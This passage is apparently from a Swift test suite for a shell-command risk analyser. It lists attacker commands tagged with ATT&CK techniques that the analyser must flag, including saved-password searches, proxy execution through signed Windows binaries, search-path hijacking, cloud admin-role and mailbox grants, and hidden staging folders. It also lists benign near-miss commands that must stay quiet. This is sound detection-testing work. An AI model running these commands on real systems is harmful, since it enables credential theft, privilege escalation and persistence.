        Case(rule: "bookmarks searched for in PowerShell", command: #"Get-ChildItem -Path C:\Users\ -Filter Bookmarks -Recurse -ErrorAction SilentlyContinue"#, dialect: .powershell, atLeast: .medium, technique: "T1217"),
        Case(rule: "Safari bookmarks searched for", command: #"find / -path "*/Safari/Bookmarks.plist" 2>/dev/null"#, dialect: .sh, atLeast: .medium, technique: "T1217"),
        Case(rule: "saved browser passwords searched for", command: "find /home -iname 'logins.json'", dialect: .sh, technique: "T1555.003"),
        Case(rule: "files copied into the IIS site", command: #"xcopy /I /Y C:\Temp\src C:\inetpub\wwwroot"#, dialect: .cmd, atLeast: .medium, technique: "T1505.003"),
        Case(rule: "AlwaysInstallElevated checked", command: #"reg query HKCU\SOFTWARE\Policies\Microsoft\Windows\Installer /v AlwaysInstallElevated"#, dialect: .cmd, atLeast: .medium, technique: "T1012"),
        Case(rule: "output written to another computer", command: #"type C:\Users\Public\file.txt > \\server\share\file.txt"#, dialect: .cmd, atLeast: .medium, technique: "T1048"),
        // Signed Microsoft programs whose only use from a prompt is running the code they are given.
        Case(rule: "workflow compiler", command: #"Microsoft.Workflow.Compiler.exe C:\Users\Public\run.xml C:\Users\Public\out.log"#, dialect: .cmd, technique: "T1127"),
        Case(rule: "workflow compiler by full path, PowerShell", command: #"& "C:\Windows\Microsoft.NET\Framework64\v4.0.30319\Microsoft.Workflow.Compiler.exe" a.txt b.log"#, dialect: .powershell, technique: "T1127"),
        Case(rule: "runscripthelper", command: #"runscripthelper.exe surfacecheck \\?\C:\Users\Public\x.txt C:\Users\Public"#, dialect: .cmd, technique: "T1218"),
        // A program compiled into WindowsApps, a folder on the search path the user can write to.
        Case(rule: "program compiled into WindowsApps", command: #"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\csc.exe /out:"$env:localappdata\Microsoft\WindowsApps\Get-Variable.exe" x.cs"#, dialect: .powershell, technique: "T1574.008"),
        Case(rule: "program copied into WindowsApps, cmd", command: #"copy x.exe "%LOCALAPPDATA%\Microsoft\WindowsApps\python.exe""#, dialect: .cmd, technique: "T1574.008"),
        // Cloud directory roles, app credentials and mailbox rights: account manipulation, as adding
        // an account to the local administrators is.
        Case(rule: "Microsoft 365 admin role granted", command: #"Add-MsolRoleMember -RoleName "Company Administrator" -RoleMemberEmailAddress bob@contoso.com"#, dialect: .powershell, technique: "T1098.003"),
        Case(rule: "Entra ID role granted, Graph spelling", command: "New-MgDirectoryRoleMemberByRef -DirectoryRoleId $r.Id -BodyParameter $ref", dialect: .powershell, technique: "T1098.003"),
        Case(rule: "Azure role assignment", command: "New-AzRoleAssignment -ObjectId $sp.Id -RoleDefinitionName Owner -Scope /subscriptions/x", dialect: .powershell, technique: "T1098.003"),
        Case(rule: "application credential added", command: "New-AzureADServicePrincipalKeyCredential -ObjectId $sp.ObjectId -Type AsymmetricX509Cert -Value $cert", dialect: .powershell, technique: "T1098.001"),
        Case(rule: "mailbox access granted", command: "Add-MailboxPermission -Identity ceo@contoso.com -User bob@contoso.com -AccessRights FullAccess", dialect: .powershell, technique: "T1098.002"),
        // Programs started through a host that hides what started them.
        Case(rule: "program started through conhost", command: "conhost.exe calc.exe", dialect: .cmd, technique: "T1202"),
        Case(rule: "program started through headless conhost", command: "CONHOST --headless cmd /c whoami", dialect: .cmd, technique: "T1202"),
        Case(rule: "program started through pcwrun", command: #"Pcwrun.exe C:\Users\Public\x.exe"#, dialect: .cmd, technique: "T1202"),
        Case(rule: "command run through DefaultPack", command: #"DefaultPack.EXE /C:"calc.exe""#, dialect: .cmd, technique: "T1202"),
        // Decoding a SecureString, hidden folders in temporary folders.
        Case(rule: "SecureString decrypted", command: #"$s = ConvertTo-SecureString $enc -Key $k; [Runtime.InteropServices.Marshal]::PtrToStringAuto([Runtime.InteropServices.Marshal]::SecureStringToBSTR($s))"#, dialect: .powershell, atLeast: .medium, technique: "T1140"),
        Case(rule: "hidden folder in /var/tmp", command: "mkdir /var/tmp/.cache-x", dialect: .sh, atLeast: .medium, technique: "T1564.001"),
        Case(rule: "hidden folder in /dev/shm, -p and a trailing slash", command: "mkdir -p /dev/shm/.x/", dialect: .sh, atLeast: .medium, technique: "T1564.001"),
        Case(rule: "macOS account created with dscl", command: "sudo dscl . -create /Users/APT UniqueID 333", dialect: .sh, technique: "T1136.001"),
        Case(rule: "macOS guest account on", command: "sudo sysadminctl -guestAccount on", dialect: .sh, technique: "T1078.001"),
    ]

    @Test(arguments: caught)
    func isCaught(_ c: Case) throws {
        let a = try Analyser.bundled().get().analyse(c.command, dialect: c.dialect)
        #expect(a.risk >= c.atLeast, "\(c.rule): `\(c.command)` was \(a.risk): \(a.summary)")
        if let t = c.technique {
            #expect(a.techniques.contains(t), "\(c.rule): expected \(t) in \(a.techniques)")
        }
        // Every finding says, in words, what it means.
        #expect(a.findings.allSatisfy { !$0.reason.isEmpty })
    }

    /// Near-misses: the everyday version of each rule's command stays where it was.
    static let nearMisses: [Case] = [
        Case(rule: "time on an ordinary command", command: "time ls -la", atLeast: .low),
        Case(rule: "HISTCONTROL without ignorespace", command: "export HISTCONTROL=ignoredups", atLeast: .low),
        Case(rule: "reading a start-up file", command: "cat ~/.shrc", dialect: .sh, atLeast: .low),
        Case(rule: "the public account list", command: "cat /etc/passwd", dialect: .sh, atLeast: .low),
        Case(rule: "adding a firewall rule", command: "iptables -A INPUT -p tcp --dport 22 -j ACCEPT", dialect: .sh, atLeast: .medium),
        Case(rule: "firewall status", command: "ufw status", dialect: .sh, atLeast: .low),
        Case(rule: "showing pf rules", command: "pfctl -s rules", dialect: .sh, atLeast: .medium),
        Case(rule: "reading the ufw rules", command: "cat /etc/ufw/user.rules", dialect: .sh, atLeast: .low),
        Case(rule: "blocking firewall rule", command: "New-NetFirewallRule -DisplayName x -Action Block -RemoteAddress 10.0.0.9", dialect: .powershell, atLeast: .medium),
        Case(rule: "showing firewall rules", command: "netsh advfirewall firewall show rule name=all", dialect: .cmd, atLeast: .medium),
        Case(rule: "reading the firewall policy", command: #"reg query "HKLM\SOFTWARE\Policies\Microsoft\WindowsFirewall" /s"#, dialect: .cmd, atLeast: .low),
        Case(rule: "a hex dump", command: "xxd file.bin", dialect: .sh, atLeast: .low),
        Case(rule: "ordinary processes searched for", command: #"ps aux | grep -E "nginx|postgres|reset""#, dialect: .sh, atLeast: .low),
        Case(rule: "one security agent checked", command: "pgrep -l falcon", dialect: .sh, atLeast: .low),
        Case(rule: "an application killed", command: "pkill -f gunicorn", dialect: .sh, atLeast: .medium),
        Case(rule: "one process searched for in PowerShell", command: "Get-Process | Where-Object { $_.Name -like '*chrome*' }", dialect: .powershell, atLeast: .low),
        Case(rule: "local administrators", command: "net localgroup administrators", dialect: .cmd, atLeast: .low),
        Case(rule: "a domain controller located", command: "nltest /dsgetdc:corp.example.com", dialect: .cmd, atLeast: .low),
        Case(rule: "one user's logon date", command: "Get-ADUser alice -Properties LastLogonDate", dialect: .powershell, atLeast: .low),
        Case(rule: "one computer", command: "Get-ADComputer web01", dialect: .powershell, atLeast: .low),
        Case(rule: "a registry value read", command: #"reg query HKLM\Software\Microsoft\Windows\CurrentVersion /v ProgramFilesDir"#, dialect: .cmd, atLeast: .low),
        Case(rule: "a log searched for errors", command: "Select-String -Path app.log -Pattern error", dialect: .powershell, atLeast: .low),
        Case(rule: "vaults listed", command: "vaultcmd /list", dialect: .cmd, atLeast: .medium),
        Case(rule: "IIS sites listed", command: "appcmd list sites", dialect: .cmd, atLeast: .medium),
        Case(rule: "rdrleakdiag's help", command: "rdrleakdiag.exe /?", dialect: .cmd, atLeast: .medium),
        Case(rule: "Excel start-up folder listed", command: #"Get-ChildItem $env:APPDATA\Microsoft\Excel\XLSTART"#, dialect: .powershell, atLeast: .low),
        Case(rule: "an ordinary file written", command: #"echo hi > C:\Temp\notes.txt"#, dialect: .cmd, atLeast: .low),
        Case(rule: "file times compared", command: "Get-ChildItem | Where-Object { $_.LastWriteTime -lt (Get-Date) }", dialect: .powershell, atLeast: .low),
        Case(rule: "Stratus's list of techniques", command: "stratus list", dialect: .sh, atLeast: .low),
        Case(rule: "AWS Config described", command: "aws configservice describe-configuration-recorders", dialect: .sh, atLeast: .low),
        Case(rule: "a file hidden on macOS", command: "SetFile -a V /tmp/x", dialect: .sh, atLeast: .medium),
        Case(rule: "an ordinary volume", command: "docker run -v /srv/data:/data nginx", dialect: .sh, atLeast: .medium),
        Case(rule: "chroot running a command", command: "chroot /mnt/sysroot /bin/ls", dialect: .sh, atLeast: .medium),
        Case(rule: "capsh printing capabilities", command: "capsh --print", dialect: .sh, atLeast: .medium),
        Case(rule: "the system log read", command: "log show --last 1h", dialect: .sh, atLeast: .low),
        Case(rule: "an account read", command: "dscl . -read /Users/bob", dialect: .sh, atLeast: .medium),
        Case(rule: "an AppleScript notification", command: #"osascript -e 'display notification "done"'"#, dialect: .sh, atLeast: .medium),
        Case(rule: "a Slack notification", command: #"curl -X POST -H 'Content-type: application/json' --data '{"text":"deployed"}' https://hooks.slack.com/services/T/B/X"#, dialect: .sh, atLeast: .medium),
        Case(rule: "a web API read", command: "Invoke-RestMethod -Uri https://api.github.com/repos/x/y", dialect: .powershell, atLeast: .medium),
        Case(rule: "an install script", command: "sh ./install.sh", dialect: .sh, atLeast: .medium),
        Case(rule: "cloud logs listed", command: "gcloud logging logs list", dialect: .sh, atLeast: .low),
        Case(rule: "the date shown", command: "date +%Y%m%d", dialect: .sh, atLeast: .none),
        Case(rule: "a file's attributes read", command: "(Get-Item C:\\x.txt).Attributes", dialect: .powershell, atLeast: .low),
        Case(rule: "an ordinary file stream", command: #"$h = New-Object IO.FileStream "C:\x\data.bin", 'Open'"#, dialect: .powershell, atLeast: .medium),
        Case(rule: "cloud directory users listed", command: "az ad user list", dialect: .sh, atLeast: .medium),
        Case(rule: "macOS accounts listed", command: "sysadminctl -list", dialect: .sh, atLeast: .medium),
        Case(rule: "a page fetched quietly", command: "curl -sS https://example.com/x", dialect: .sh, atLeast: .low),
        Case(rule: "a download saved, not run", command: "curl -sO https://example.com/notes.txt", dialect: .sh, atLeast: .medium),
        Case(rule: "ssh through a bastion", command: #"ssh -o ProxyCommand="ssh -W %h:%p bastion" host"#, dialect: .sh, atLeast: .medium),
        Case(rule: "scp through a bastion", command: #"scp -o ProxyCommand="ssh -W %h:%p bastion" a host:"#, dialect: .sh, atLeast: .medium),
        Case(rule: "sftp through a SOCKS proxy", command: #"sftp -o ProxyCommand="nc -X 5 -x proxy:1080 %h %p" host"#, dialect: .sh, atLeast: .medium),
        Case(rule: "cron's daily folder run", command: "run-parts /etc/cron.daily", dialect: .sh, atLeast: .medium),
        Case(rule: "an ordinary git hook", command: "echo 'npm test' > .git/hooks/pre-commit", dialect: .sh, atLeast: .medium),
        Case(rule: "a session recorded", command: "script session.log", dialect: .sh, atLeast: .low),
        Case(rule: "BSD script running a command", command: "script -q /dev/null ./build.sh", dialect: .sh, atLeast: .medium),
        Case(rule: "an EXIT trap", command: "trap 'rm -f /tmp/lock' EXIT", atLeast: .medium),
        Case(rule: "a DEBUG trap that does not copy commands", command: "trap 'echo step' DEBUG", atLeast: .low),
        Case(rule: "the pod's namespace read", command: "cat /run/secrets/kubernetes.io/serviceaccount/namespace", dialect: .sh, atLeast: .low),
        Case(rule: "a shortcut on the desktop", command: #"$s = New-Object -ComObject WScript.Shell; $l = $s.CreateShortcut("$home\Desktop\x.lnk")"#, dialect: .powershell, atLeast: .medium),
        Case(rule: "WMI classes listed", command: "Get-WmiObject -Namespace root\\subscription -Class __EventFilter", dialect: .powershell, atLeast: .medium),
        Case(rule: "one domain user", command: "net user alice /domain", dialect: .cmd, atLeast: .medium),
        Case(rule: "this machine's users", command: "net user", dialect: .cmd, atLeast: .low),
        Case(rule: "machines near by", command: "net view", dialect: .cmd, atLeast: .low),
        Case(rule: "one computer with all its properties", command: "Get-ADComputer $env:computername -Properties *", dialect: .powershell, atLeast: .low),
        Case(rule: "an ordinary DNS lookup", command: "nslookup -type=MX example.com", dialect: .cmd, atLeast: .low),
        Case(rule: "base64 encoded in PowerShell", command: "[Convert]::ToBase64String([byte[]](1,2,3))", dialect: .powershell, atLeast: .low),
        Case(rule: "one host pinged in a loop", command: "for i in 1 2 3; do ping -c 1 example.com; done", dialect: .sh, atLeast: .none),
        Case(rule: "cmd loop without a probe", command: "for /l %i in (1,1,3) do echo %i", dialect: .cmd, atLeast: .low),
        Case(rule: "a host named by a command", command: "ping -c 1 $(hostname)", dialect: .sh, atLeast: .low),
        Case(rule: "a local finger", command: "finger alice", dialect: .sh, atLeast: .low),
        Case(rule: "whois on another server", command: "whois -h whois.arin.net 192.0.2.1", dialect: .sh, atLeast: .low),
        Case(rule: "sort reading", command: "sort -u names.txt", dialect: .sh, atLeast: .low),
        Case(rule: "iconv reading", command: "iconv -f latin1 -t utf-8 in.txt", dialect: .sh, atLeast: .low),
        Case(rule: "find listing", command: "find . -name '*.log' -print", dialect: .sh, atLeast: .low),
        Case(rule: "awk comparing and printing", command: "awk '$3 > 100 { print $1 }' data.txt", dialect: .sh, atLeast: .low),
        Case(rule: "sed printing a line", command: "sed -n '/www/p' /etc/hosts", dialect: .sh, atLeast: .low),
        Case(rule: "a patch applied in the repository", command: "git apply fix.patch", dialect: .sh, atLeast: .low),
        Case(rule: "rpm query", command: "rpm -q bash", dialect: .sh, atLeast: .low),
        Case(rule: "an rpm macro expanded", command: "rpm -E %fedora", dialect: .sh, atLeast: .low),
        Case(rule: "ssh-keygen fingerprint", command: "ssh-keygen -l -f key.pub", dialect: .sh, atLeast: .low),
        Case(rule: "tmux sessions listed", command: "tmux ls", dialect: .sh, atLeast: .low),
        Case(rule: "rpcping with Kerberos", command: "rpcping -s mail.example.com -u Kerberos", dialect: .cmd, atLeast: .low),
        Case(rule: "a profiler variable read", command: "echo %COR_PROFILER%", dialect: .cmd, atLeast: .low),
        Case(rule: "extended attributes listed", command: "xattr -l myapp.app", dialect: .sh, atLeast: .low),
        Case(rule: "another attribute removed", command: "xattr -d com.apple.FinderInfo notes.txt", dialect: .sh, atLeast: .medium),
        Case(rule: "one password tried for several hosts", command: #"for h in web1 web2; do sshpass -p "$PW" ssh $h uptime; done"#, dialect: .sh, atLeast: .medium),
        Case(rule: "accounts shown in a loop", command: "for %u in (alice bob) do net user %u", dialect: .cmd, atLeast: .low),
        Case(rule: "one's own mailbox read", command: "cat /var/mail/bob", dialect: .sh, atLeast: .low),
        Case(rule: "a browser profile listed", command: "ls ~/.mozilla/firefox/", dialect: .sh, atLeast: .low),
        Case(rule: "a file searched for by name", command: #"where /R C:\Tools python.exe"#, dialect: .cmd, atLeast: .low),
        Case(rule: "the IIS site listed", command: #"dir C:\inetpub\wwwroot"#, dialect: .cmd, atLeast: .low),
        Case(rule: "output written to a local file", command: #"type C:\x.txt > C:\Temp\y.txt"#, dialect: .cmd, atLeast: .low),
        Case(rule: "the workflow compiler looked for, not run", command: "where Microsoft.Workflow.Compiler.exe", dialect: .cmd, atLeast: .low),
        Case(rule: "a program compiled in the project", command: #"csc.exe /out:bin\tool.exe Program.cs"#, dialect: .cmd, atLeast: .medium),
        Case(rule: "Entra ID users listed", command: "Get-AzureADUser -All $true", dialect: .powershell, atLeast: .medium),
        Case(rule: "mailbox rights listed", command: "Get-MailboxPermission -Identity ceo@contoso.com", dialect: .powershell, atLeast: .medium),
        Case(rule: "a SecureString decrypted but kept secure", command: "$s = ConvertTo-SecureString $enc -Key $k", dialect: .powershell, atLeast: .low),
        Case(rule: "an ordinary folder in /tmp", command: "mkdir -p /tmp/build", dialect: .sh, atLeast: .low),
        Case(rule: "a hidden folder at home", command: "mkdir ~/.config/app", dialect: .sh, atLeast: .low),
        Case(rule: "macOS guest account off", command: "sudo sysadminctl -guestAccount off", dialect: .sh, atLeast: .medium),
    ]

    @Test(arguments: nearMisses)
    func nearMissStaysQuiet(_ c: Case) throws {
        let a = try Analyser.bundled().get().analyse(c.command, dialect: c.dialect)
        #expect(a.risk <= c.atLeast, "\(c.rule): `\(c.command)` was \(a.risk): \(a.summary)")
    }

    /// `IPC$` carries no files: it is not an administrative file share.
    @Test func ipcIsNoAdminShare() throws {
        let a = try Analyser.bundled().get().analyse(#"net use \\fileserver\IPC$"#, dialect: .cmd)
        #expect(!a.findings.contains { $0.reason.contains("administrative share") }, "\(a.findings)")
    }
}
